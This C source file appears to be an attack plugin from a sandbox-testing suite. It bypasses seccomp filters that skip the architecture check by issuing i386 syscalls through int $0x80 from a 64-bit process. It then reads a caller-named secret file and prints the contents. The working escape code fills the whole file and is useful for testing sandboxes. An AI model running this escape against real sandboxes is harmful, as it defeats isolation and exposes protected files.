/*
 * sys_int80_open — enters the kernel through the 32-bit `int $0x80` gate from a
 * 64-bit process, where system call numbers are the i386 ones (getpid 20, open 5,
 * read 3, close 6). A seccomp filter that checks numbers without checking the
 * architecture field allows "i386 open" because 5 is fstat on x86_64. Arguments
 * are 32-bit, so the path and buffer live in a MAP_32BIT mapping.
 */
#include "attack.h"

#include <sys/mman.h>

enum { I386_READ = 3, I386_OPEN = 5, I386_CLOSE = 6, I386_GETPID = 20 };

static sbx_status attack(const atk_input *in, atk_out *out)
{
    char secret[2048];
    if (!atk_param(in, "secret_path", secret, sizeof secret)) {
        return SBX_ERR_INVALID_ARGUMENT;
    }
    long pid = atk_int80(I386_GETPID, 0, 0, 0);
    if (pid < 0) {
        atk_failed(out, "int $0x80 getpid", (int)-pid);
        return SBX_ERR_INTERNAL;
    }
    atk_gained(out, "the i386 gate answers (getpid %ld)", pid);
    char *low = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT,
                     -1, 0);
    if (low == MAP_FAILED) {
        atk_failed(out, "mmap MAP_32BIT", errno);
        return SBX_ERR_INTERNAL;
    }
    memcpy(low, secret, strlen(secret) + 1);
    long fd = atk_int80(I386_OPEN, (long)(uintptr_t)low, O_RDONLY, 0);
    if (fd < 0) {
        atk_failed(out, "i386 open", (int)-fd);
        munmap(low, 8192);
        return SBX_ERR_INTERNAL;
    }
    long got = atk_int80(I386_READ, fd, (long)(uintptr_t)(low + 4096), 4096);
    atk_int80(I386_CLOSE, fd, 0, 0);
    if (got > 0) {
        atk_put(out, "secret via i386 open: ", 22);
        atk_put(out, low + 4096, (size_t)got);
        atk_put(out, "\n", 1);
    } else {
        atk_failed(out, "i386 read", (int)-got);
    }
    munmap(low, 8192);
    return got > 0 ? SBX_OK : SBX_ERR_INTERNAL;
}

ATK_INVOKE_PLUGIN(attack)
